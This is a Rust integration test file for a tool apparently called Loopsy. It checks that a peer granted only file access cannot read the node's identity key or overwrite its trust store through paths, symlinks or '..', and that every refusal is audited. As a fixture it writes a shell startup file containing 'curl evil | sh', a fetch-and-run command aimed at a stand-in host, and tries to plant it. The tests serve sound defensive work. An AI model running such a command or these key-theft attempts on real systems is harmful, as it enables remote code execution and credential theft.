//! The node's secrets stay home: a member granted `files` cannot read or write a Loopsy
//! home (the node's own, in the default place under its user's home, nor another node's or
//! a relay's) through any path, link or `..`, whatever the file roots say; and a member
//! that may not run programs here gets a drop directory to write into, not the whole home.

use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    path::{Path, PathBuf},
};

use loopsy_tests::{
    netlab,
    node::{Node, Options},
    temp::TempDir,
};
use serde_json::Value;

fn path(p: &Path) -> &str {
    p.to_str().expect("utf-8 test path")
}

/// `loopsy cp --json ARGS..` from `node`: its exit code and its stderr.
fn cp(node: &Node, args: &[&str]) -> (i32, String) {
    let mut all = vec!["cp", "--json"];
    all.extend_from_slice(args);
    let out = node.cli(&all);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    (out.status.code().unwrap_or(-1), stderr)
}

/// alpha, whose user's home is `root`, with its state in the default place inside it.
fn alpha(root: &Path) -> anyhow::Result<Node> {
    fs::create_dir_all(root)?;
    let node = Node::start(Options::isolated("alpha").env("HOME", root).default_home())?;
    anyhow::ensure!(
        node.home() == root.join(".local/share/loopsy")
            && node.home().join("identity.key").is_file(),
        "alpha keeps its state under its user's home"
    );
    Ok(node)
}

/// Pairs `joiner` with `inviter`, granted only `files` there.
fn pair_files_only(inviter: &Node, joiner: &Node) -> anyhow::Result<()> {
    let mut invite = inviter.invite(&["--ttl", "60s", "--allow", "files"])?;
    let (ok, out) = joiner.join(&invite.code);
    anyhow::ensure!(ok, "join failed: {out}");
    anyhow::ensure!(invite.result()?["paired"] == true, "inviter did not pair");
    let entry = inviter
        .trusted()
        .into_iter()
        .find(|m| m["peer_id"] == joiner.peer_id.as_str());
    anyhow::ensure!(
        entry
            .as_ref()
            .is_some_and(|m| m["allow"] == serde_json::json!(["files"])),
        "granted files only: {entry:?}"
    );
    Ok(())
}

/// Every file name under `dir`, at any depth.
fn names_under(dir: &Path) -> Vec<String> {
    let mut names = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(at) = todo.pop() {
        for entry in fs::read_dir(&at).into_iter().flatten().flatten() {
            names.push(entry.file_name().to_string_lossy().into_owned());
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                todo.push(entry.path());
            }
        }
    }
    names
}

/// Runs each copy, which must be refused, with `why` in its error.
fn all_refused(b: &Node, cases: &[(Vec<&str>, &str)]) {
    for (args, why) in cases {
        let (code, err) = cp(b, args);
        assert_ne!(code, 0, "{args:?} must be refused");
        assert!(err.contains(why), "{args:?}: {err}");
    }
}

/// alpha's audit entries for copies it refused.
fn denied_copies(a: &Node) -> Vec<Value> {
    a.audit()
        .into_iter()
        .filter(|e| e["action"].as_str().is_some_and(|a| a.starts_with("cp")))
        .filter(|e| e["result"] == "denied")
        .collect()
}

/// The state files a copy must never touch, as they are now.
/// The key and config as they are, and whether the trust store holds what a peer pushed
/// (it changes by itself as member records arrive, so only the planted text is looked for).
fn snapshot(home: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<(PathBuf, Vec<u8>)> = ["identity.key", "config.toml"]
        .iter()
        .map(|n| (home.join(n), fs::read(home.join(n)).unwrap_or_default()))
        .collect();
    let trust = fs::read(home.join("trust.toml")).unwrap_or_default();
    let planted = trust.windows(4).any(|w| w == b"evil");
    files.push((home.join("trust.toml"), vec![u8::from(planted)]));
    files
}

#[test]
fn a_files_only_member_cannot_take_the_key_or_plant_code() -> anyhow::Result<()> {
    let tmp = TempDir::new("secrets");
    let (root_a, local) = (tmp.path().join("alpha-user"), tmp.path().join("local"));
    let a = alpha(&root_a)?;
    let b = Node::start(Options::isolated("bravo"))?;
    pair_files_only(&a, &b)?;
    let state = a.home();
    fs::create_dir_all(root_a.join(".local/share/notes"))?;
    fs::write(root_a.join(".local/share/notes/todo.txt"), "todo")?;
    fs::write(root_a.join(".bashrc"), "original")?;
    // A link alpha's user made to the state directory.
    symlink(&state, root_a.join("door"))?;
    fs::create_dir_all(local.join("loopsy"))?;
    fs::write(local.join("loopsy/trust.toml"), "evil")?;
    fs::write(local.join(".bashrc"), "curl evil | sh")?;
    let before = snapshot(&state);

    let key = format!("alpha:{}", path(&state.join("identity.key")));
    let trust = format!("alpha:{}", path(&state.join("trust.toml")));
    let rc = format!("alpha:{}", path(&root_a.join(".bashrc")));
    let into = path(&local);
    let (evil, bashrc) = (local.join("loopsy/trust.toml"), local.join(".bashrc"));
    let tree = local.join("loopsy");
    let home = "Loopsy home";
    all_refused(
        &b,
        &[
            // Reading the key, by every way there is to name it.
            (vec!["alpha:.local/share/loopsy/identity.key", into], home),
            (vec![&key, into], home),
            (vec!["alpha:door/identity.key", into], home),
            (vec!["-r", "alpha:door", into], home),
            (vec!["-r", "alpha:.local/share/loopsy", into], home),
            (
                vec!["alpha:.local/share/../share/loopsy/identity.key", into],
                "..",
            ),
            // Writing the trust store: neither by name nor as part of a tree. (Relative
            // names start at the drop directory, which holds no `.local`: they fail as a
            // missing directory does, without reaching the home at all.)
            (
                vec![path(&evil), "alpha:.local/share/loopsy/trust.toml"],
                "Loopsy/.local/share/loopsy: no such file or directory",
            ),
            (vec![path(&evil), &trust], "refused"),
            (
                vec!["-r", path(&tree), "alpha:.local/share"],
                "Loopsy/.local: no such file or directory",
            ),
            // Planting code that runs later: alpha's own .bashrc is out of reach.
            (vec![path(&bashrc), &rc], "outside the allowed roots"),
        ],
    );

    // A tree that holds the state directory arrives without it.
    let (code, err) = cp(&b, &["-r", "alpha:.local", path(&local.join("x"))]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(fs::read(local.join("x/share/notes/todo.txt"))?, b"todo");
    assert!(!local.join("x/share/loopsy").exists());
    let names = names_under(&local);
    for secret in ["identity.key", "config.toml", "audit.jsonl"] {
        assert!(
            !names.iter().any(|n| n == secret),
            "{secret} came: {names:?}"
        );
    }

    // A relative destination starts at the drop directory, private to alpha's user.
    let (code, err) = cp(&b, &[path(&bashrc), "alpha:.bashrc"]);
    assert_eq!(code, 0, "{err}");
    let drop = root_a.join("Loopsy");
    assert_eq!(fs::read(drop.join(".bashrc"))?, b"curl evil | sh");
    assert_eq!(fs::metadata(&drop)?.permissions().mode() & 0o777, 0o700);
    assert_eq!(fs::read(root_a.join(".bashrc"))?, b"original");

    assert_eq!(snapshot(&state), before, "the state directory is untouched");
    let denied = denied_copies(&a);
    assert!(denied.len() >= 8, "every refusal is audited: {denied:?}");
    assert!(
        denied
            .iter()
            .any(|e| e["reason"].as_str().is_some_and(|r| r.contains(home))),
        "the audit says why: {denied:?}"
    );
    Ok(())
}

#[test]
fn whatever_the_roots_say_no_path_reaches_a_loopsy_home() -> anyhow::Result<()> {
    let tmp = TempDir::new("homes");
    let (root_a, local) = (tmp.path().join("alpha-user"), tmp.path().join("local"));
    // Roots that take in the state directory, written before alpha first starts.
    let state = root_a.join(".local/share/loopsy");
    fs::create_dir_all(&state)?;
    fs::write(
        state.join("config.toml"),
        "[files]\nread = [\"~\", \"~/.local/share/loopsy\"]\nwrite = [\"~\"]\n",
    )?;
    let a = alpha(&root_a)?;
    let b = Node::start(Options::isolated("bravo"))?;
    pair_files_only(&a, &b)?;
    // A relay's home as loopsy-relay makes it, another node's home (its marker), and files
    // beside them.
    let listen = ["/ip4/127.0.0.1/tcp/0".to_owned()];
    drop(netlab::relay(None, &root_a.join("relay"), &listen)?);
    let relay_key = fs::read(root_a.join("relay/identity.key"))?;
    fs::create_dir_all(root_a.join("work/old-node"))?;
    fs::write(root_a.join("work/old-node/.loopsy-home"), "")?;
    fs::write(root_a.join("work/old-node/trust.toml"), "old")?;
    fs::write(root_a.join("work/notes.txt"), "notes")?;
    symlink(&state, root_a.join("door"))?;
    fs::create_dir_all(local.join("loopsy"))?;
    fs::write(local.join("loopsy/trust.toml"), "evil")?;
    fs::create_dir_all(local.join("old-node"))?;
    fs::write(local.join("old-node/trust.toml"), "evil")?;
    fs::write(local.join("f"), "evil")?;
    let before = snapshot(&state);

    let key = format!("alpha:{}", path(&state.join("identity.key")));
    let into = path(&local);
    let f = local.join("f");
    let (f, home) = (path(&f), "Loopsy home");
    let (tree, old) = (local.join("loopsy"), local.join("old-node"));
    all_refused(
        &b,
        &[
            (vec![&key, into], home),
            (vec!["alpha:relay/identity.key", into], home),
            (vec!["-r", "alpha:work/old-node", into], home),
            (vec![f, "alpha:.local/share/loopsy/trust.toml"], home),
            (vec![f, "alpha:.local/share/loopsy"], home),
            (vec![f, "alpha:door/x"], home),
            (vec![f, "alpha:relay/identity.key"], home),
            (vec!["-r", path(&tree), "alpha:.local/share"], home),
            (vec!["-r", path(&old), "alpha:work"], home),
        ],
    );

    // Trees are offered without the homes inside them.
    let (code, err) = cp(&b, &["-r", "alpha:work", path(&local.join("w"))]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(fs::read(local.join("w/notes.txt"))?, b"notes");
    assert!(!local.join("w/old-node").exists());
    let (code, err) = cp(&b, &["-r", "alpha:", path(&local.join("all"))]);
    assert_eq!(code, 0, "{err}");
    assert!(local.join("all/work/notes.txt").exists());
    let names = names_under(&local.join("all"));
    assert!(
        !names
            .iter()
            .any(|n| n == "identity.key" || n == "trust.toml"),
        "{names:?}"
    );

    // An explicit write root of `~` is used as configured.
    let (code, err) = cp(&b, &[f, "alpha:.bashrc"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(fs::read(root_a.join(".bashrc"))?, b"evil");

    assert_eq!(snapshot(&state), before, "the state directory is untouched");
    assert_eq!(fs::read(root_a.join("work/old-node/trust.toml"))?, b"old");
    assert_eq!(fs::read(root_a.join("relay/identity.key"))?, relay_key);
    let denied = denied_copies(&a);
    assert_eq!(denied.len(), 9, "every refusal is audited: {denied:?}");
    Ok(())
}
